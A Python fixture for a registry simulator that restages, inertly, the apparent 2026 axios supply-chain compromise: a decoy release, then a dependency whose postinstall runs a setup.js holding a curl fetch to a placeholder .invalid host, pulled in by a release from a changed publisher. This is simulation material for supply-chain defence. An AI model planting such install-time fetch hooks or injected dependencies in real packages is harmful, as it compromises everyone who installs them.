"""An inert replica of the axios attack of 2026-03-31, published to the registry simulator.

What is true to the incident: the order of releases and their times, what axios 1.14.1 changed (its version and one
dependency that nothing imports), that the dependency had a clean decoy release and ran code at install, and that the
publisher changed. What is not: the payload. The dependency's script computes nothing, writes nothing and connects to
nothing; its host is under `.invalid`.
"""

import io
import json
import tarfile
from datetime import UTC, datetime

from simulator import RegistrySimulator

MAINTAINER = ("maintainer", "maintainer@axios.test")
INTRUDER = ("maintainer", "someone-else@mail.test")
GOOD, BAD, DECOY, DROPPER = "1.14.0", "1.14.1", "4.2.0", "4.2.1"
DEPENDENCY = "plain-crypto-js"

#: Inert: the names that a dropper uses stand in a table that nothing calls with a real address.
SETUP = """\
const os = require('os');
const { execSync } = require('child_process');
const fetchers = { linux: 'curl -s http://packages.replica.invalid/2', darwin: 'true', win32: 'ver' };
function setup(run) {
  if (!run) return;
  execSync(fetchers[os.platform()]);
}
setup(false);
"""
LIBRARY = """\
'use strict';
module.exports.rotate = function rotate(word, by) {
  return (word << by) | (word >>> (32 - by));
};
"""


def publish(registry: RegistrySimulator, axios_tarball: bytes) -> None:
    """Publish both packages as they stood on 2026-03-31; `axios_tarball` is the genuine archive of 1.14.0."""
    files, manifest = _unpacked(axios_tarball)
    dependencies = manifest["dependencies"]
    for version, published in (("1.13.6", (2026, 2, 17, 9, 0)), (GOOD, (2026, 3, 27, 21, 18))):
        registry.npm.publish(
            "axios",
            version,
            files={**files, "package.json": {**manifest, "version": version}},
            published=datetime(*published, tzinfo=UTC),
            publisher=MAINTAINER,
            trusted=True,
            provenance=True,
        )
    for version, published, scripts in (
        (DECOY, (2026, 3, 30, 5, 57), {}),
        (DROPPER, (2026, 3, 30, 23, 59), {"postinstall": "node setup.js"}),
    ):
        registry.npm.publish(
            DEPENDENCY,
            version,
            files={"index.js": LIBRARY, **({"setup.js": SETUP} if scripts else {})},
            scripts=scripts,
            published=datetime(*published, tzinfo=UTC),
            publisher=("newcomer", "newcomer@mail.test"),
        )
    registry.npm.publish(
        "axios",
        BAD,
        files={
            **files,
            "package.json": {**manifest, "version": BAD, "dependencies": {**dependencies, DEPENDENCY: f"^{DROPPER}"}},
        },
        published=datetime(2026, 3, 31, 0, 21, tzinfo=UTC),
        publisher=INTRUDER,
    )
    for name in dependencies:
        registry.npm.publish(name, "1.0.0", published=datetime(2020, 1, 1, tzinfo=UTC), publisher=MAINTAINER)


def _unpacked(tarball: bytes) -> tuple[dict[str, bytes], dict[str, object]]:
    """Return the files of an npm archive, and its manifest apart."""
    files: dict[str, bytes] = {}
    with tarfile.open(fileobj=io.BytesIO(tarball), mode="r:gz") as archive:
        for member in archive:
            handle = archive.extractfile(member)
            if handle is not None:
                files[member.name.partition("/")[2]] = handle.read()
    return files, json.loads(files.pop("package.json"))
